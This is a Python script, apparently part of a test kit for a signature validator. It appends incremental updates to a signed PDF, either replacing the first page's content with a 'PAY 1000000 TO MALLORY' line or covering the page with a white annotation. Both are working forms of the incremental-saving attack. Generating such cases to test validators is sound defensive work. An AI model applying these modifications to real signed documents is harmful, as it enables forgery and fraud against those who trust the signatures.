"""Incremental updates appended to a signed PDF with pyHanko's incremental writer (the
kit's venv): the shapes of the incremental-saving attack, for validate.sh.

    python pdf_attacks.py SIGNED.pdf content|annot OUT.pdf

content: the first page's /Contents replaced by a new stream.
annot:   a white /Square annotation over the whole first page (DocMDP P=2 forbids it).
"""
import sys

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter


def main(src, kind, out):
    with open(src, "rb") as f:
        w = IncrementalPdfFileWriter(f)
        page = w.root["/Pages"]["/Kids"].raw_get(0).get_object()
        if kind == "content":
            stream = generic.StreamObject(
                stream_data=b"BT /F1 24 Tf 72 700 Td (PAY 1000000 TO MALLORY) Tj ET"
            )
            page["/Contents"] = w.add_object(stream)
        elif kind == "annot":
            white = generic.ArrayObject([generic.FloatObject(1)] * 3)
            annot = w.add_object(generic.DictionaryObject({
                generic.NameObject("/Type"): generic.NameObject("/Annot"),
                generic.NameObject("/Subtype"): generic.NameObject("/Square"),
                generic.NameObject("/Rect"): generic.ArrayObject(
                    [generic.FloatObject(x) for x in (0, 0, 600, 800)]),
                generic.NameObject("/C"): white,
                generic.NameObject("/IC"): white,
            }))
            annots = page.get("/Annots")
            if annots is None:
                page["/Annots"] = generic.ArrayObject([annot])
            else:
                annots.get_object().append(annot)
                if isinstance(page.raw_get("/Annots"), generic.IndirectObject):
                    w.update_container(page.raw_get("/Annots"))
        else:
            raise SystemExit(f"unknown attack {kind}")
        w.update_container(page)
        with open(out, "wb") as o:
            w.write(o)


if __name__ == "__main__":
    main(*sys.argv[1:4])
